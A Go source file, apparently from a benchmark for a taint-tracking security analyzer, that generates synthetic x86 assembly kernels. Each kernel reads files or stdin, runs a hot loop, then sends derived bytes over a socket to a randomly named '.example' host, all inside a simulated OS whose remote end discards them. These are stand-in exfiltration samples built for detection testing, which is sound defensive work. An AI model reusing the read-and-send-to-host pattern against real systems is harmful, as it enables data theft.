package main

import (
	"fmt"
	"math/rand/v2"
	"strings"

	hth "repro"
	"repro/internal/vos"
)

// The taint-* workloads run kernels this benchmark owns, not corpus
// rows: the corpus programs are a few hundred instructions long, far
// too short for the tier engine to matter. A kernel reads its inputs
// into page regions, then runs a hot loop over three regions walked by
// three independent pointers (ecx over A, edx over B, edi over D):
//
//	D[i] = A[i] op B[i]      four words per iteration
//
// and finally sends a buffer to a hard-coded address, which Secpert
// reports as High. The regions sit 1 MiB apart plus one page each, so
// the same offset in A, B and D maps to different slots of the guest
// memory TLB, and each pointer keeps its own footprint interval, so a
// loop entry resolves to at most four shadow pages (the clean tier's
// page budget).
//
// Dense kernels read every source straight into A and B, so every
// loop block moves tags: A's chunk k carries source k and B's chunk k
// carries source k-1, so each D word is a union of two distinct
// sources. Sparse kernels fill A and B with clean immediates and read
// their sources into a fourth region T the loop never touches (the
// clean tier's regime); a late variant additionally reads one more
// input into A's first page part-way through the passes and leaks the
// D words derived from it, which the clean tier must re-instrument for.
const (
	regionA    = 0x01000000
	regionStep = 0x00100000 + 0x1000
	pageSize   = 4096
	// instrsPerPage is the loop's guest instructions per page of A:
	// 256 iterations of 4×(load, load, op, store) + 3 adds + cmp + jl.
	instrsPerPage = 256 * 21
)

// kernelShape is the part of a kernel that sets its cost.
type kernelShape struct {
	pages   int // pages in each of A, B and D
	sources int // distinct taint sources
	instrs  int // target guest instructions
	late    bool
}

var (
	shapePages   = [4]int{1, 4, 12, 32}
	shapeSources = [4]int{1, 2, 4, 8}
	shapeInstrs  = [4]int{1_000_000, 2_000_000, 3_000_000, 4_000_000}
)

// kernelShapes lays the 16 kernels of one taint workload out as a
// Latin square: every (pages, sources) pair appears once, and each
// instruction budget appears once per row and once per column (40M
// guest instructions per pass over the deck). Sparse kernels on the
// diagonal are late: one per pages row and one per sources column.
// The shapes do not depend on the seed, which varies only what leaves
// the cost alone (contents, names, the loop's ALU op, which source is
// stdin), so runs with different seeds measure the same work.
func kernelShapes(sparse bool) []kernelShape {
	var out []kernelShape
	for r := 0; r < 4; r++ {
		for c := 0; c < 4; c++ {
			out = append(out, kernelShape{
				pages:   shapePages[r],
				sources: shapeSources[c],
				instrs:  shapeInstrs[(r+c)%4],
				late:    sparse && r == c,
			})
		}
	}
	return out
}

// sinkRemote swallows whatever the kernel leaks.
type sinkRemote struct{}

func (sinkRemote) OnConnect(*vos.RemoteConn)      {}
func (sinkRemote) OnData(*vos.RemoteConn, []byte) {}

// kernelInput generates one taint kernel: its source, stdin and files.
func kernelInput(rng *rand.Rand, idx int, sh kernelShape, sparse bool) *input {
	var b strings.Builder
	emit := func(f string, a ...any) { fmt.Fprintf(&b, f+"\n", a...) }
	a, bb, d := regionA, regionA+regionStep, regionA+2*regionStep
	t := regionA + 3*regionStep
	size := sh.pages * pageSize
	chunk := size / sh.sources
	if sparse {
		chunk = 256
	}
	op := [...]string{"xor", "add", "sub", "or"}[rng.IntN(4)]
	stdinSrc := rng.IntN(sh.sources + 1) // == sources: every source is a file
	host := fmt.Sprintf("%s.example:%d", word(rng), 1024+rng.IntN(60000))
	fnames := make([]string, sh.sources+1) // the last one feeds the late read
	for i := range fnames {
		fnames[i] = fmt.Sprintf("/data/%s%d.dat", word(rng), i)
	}
	files := map[string][]byte{}
	var stdin []byte
	fill := func(n int) []byte {
		p := make([]byte, n)
		for i := range p {
			p[i] = byte(rng.UintN(256))
		}
		return p
	}

	emit(".text")
	emit("_start:")
	if sparse {
		// Allocate A and B with clean words. Immediates (inc and add
		// included) carry the binary's tag, so the words are a zeroed
		// register's, which leaves their shadow pages empty.
		for _, base := range []int{a, bb} {
			emit("    mov ecx, %d", base)
			emit("    xor eax, eax")
			emit("fill%x:", base)
			emit("    mov [ecx], eax")
			emit("    add ecx, 4")
			emit("    cmp ecx, %d", base+size)
			emit("    jl fill%x", base)
		}
	}
	// Input phase: each source fills its chunks with one open and
	// sequential reads. Dense: A's chunk k and B's chunk k+1. Sparse:
	// two chunks of T.
	for s := 0; s < sh.sources; s++ {
		dsts := []int{a + s*chunk, bb + ((s+1)%sh.sources)*chunk}
		if sparse {
			dsts = []int{t + 2*s*chunk, t + (2*s+1)*chunk}
		}
		if s == stdinSrc {
			stdin = append(stdin, fill(2*chunk)...)
			emit("    mov ebx, 0")
		} else {
			files[fnames[s]] = fill(2 * chunk)
			emit("    mov ebx, fname%d", s)
			emit("    mov ecx, 0")
			emit("    mov eax, 5")
			emit("    int 0x80")
			emit("    mov ebx, eax")
		}
		emit("    mov [fd], ebx")
		for _, dst := range dsts {
			emit("    mov ebx, [fd]")
			emit("    mov ecx, %d", dst)
			emit("    mov edx, %d", chunk)
			emit("    mov eax, 3")
			emit("    int 0x80")
		}
	}
	passes := max(2, (sh.instrs+instrsPerPage*sh.pages/2)/(instrsPerPage*sh.pages))
	emit("    mov esi, %d", passes)
	emit("pass:")
	if sh.late {
		// Late input lands on A's first page a quarter of the way from
		// the end, so most entries still run clean before and after.
		late := sh.sources
		emit("    cmp esi, %d", max(1, passes/4))
		emit("    jnz nolate")
		if stdinSrc == sh.sources {
			stdin = append(stdin, fill(64)...)
			emit("    mov ebx, 0")
		} else {
			files[fnames[late]] = fill(64)
			emit("    mov ebx, fname%d", late)
			emit("    mov ecx, 0")
			emit("    mov eax, 5")
			emit("    int 0x80")
			emit("    mov ebx, eax")
		}
		emit("    mov ecx, %d", a)
		emit("    mov edx, 64")
		emit("    mov eax, 3")
		emit("    int 0x80")
		emit("nolate:")
	}
	emit("    mov ecx, %d", a)
	emit("    mov edx, %d", bb)
	emit("    mov edi, %d", d)
	emit("loop:")
	for w := 0; w < 4; w++ {
		emit("    mov eax, [ecx+%d]", 4*w)
		emit("    mov ebx, [edx+%d]", 4*w)
		emit("    %s eax, ebx", op)
		emit("    mov [edi+%d], eax", 4*w)
	}
	emit("    add ecx, 16")
	emit("    add edx, 16")
	emit("    add edi, 16")
	emit("    cmp ecx, %d", a+size)
	emit("    jl loop")
	emit("    dec esi")
	emit("    jnz pass")
	leak := d // dense: derived words; late: derived from the late input
	if sparse && !sh.late {
		leak = t
	}
	emit("    mov eax, 102")
	emit("    mov ebx, 1")
	emit("    mov ecx, scargs")
	emit("    int 0x80")
	emit("    mov [sock], eax")
	emit("    mov [scargs], eax")
	emit("    mov [scargs+4], addr")
	emit("    mov eax, 102")
	emit("    mov ebx, 3")
	emit("    mov ecx, scargs")
	emit("    int 0x80")
	emit("    mov ebx, [sock]")
	emit("    mov ecx, %d", leak)
	emit("    mov edx, 64")
	emit("    mov eax, 4")
	emit("    int 0x80")
	emit("    hlt")
	emit(".data")
	emit(`addr: .asciz "%s"`, host)
	for i, f := range fnames {
		emit(`fname%d: .asciz "%s"`, i, f)
	}
	emit("fd: .space 4")
	emit("sock: .space 4")
	emit("scargs: .space 12")

	kind := "dense"
	if sparse {
		kind = "sparse"
	}
	name := fmt.Sprintf("%s-p%02d-s%d-i%dM", kind, sh.pages, sh.sources, sh.instrs/1_000_000)
	if sh.late {
		name += "-late"
	}
	path := "/bin/" + word(rng)
	return &input{
		name:  name,
		class: "HIGH",
		spec: hth.JobSpec{
			// One tenant per kernel: the 16 tenants spread over the
			// service's shards the same way for every seed.
			Tenant:   fmt.Sprintf("k%02d", idx),
			Programs: map[string]string{path: b.String()},
			Files:    files,
			Path:     path,
			Stdin:    stdin,
			Setup: func(sys *hth.System) {
				sys.AddRemote(host, func() vos.RemoteScript { return sinkRemote{} })
			},
		},
	}
}

// word returns a short seeded lower-case identifier.
func word(rng *rand.Rand) string {
	const letters = "abcdefghijklmnopqrstuvwxyz"
	p := make([]byte, 4+rng.IntN(5))
	for i := range p {
		p[i] = letters[rng.IntN(len(letters))]
	}
	return string(p)
}
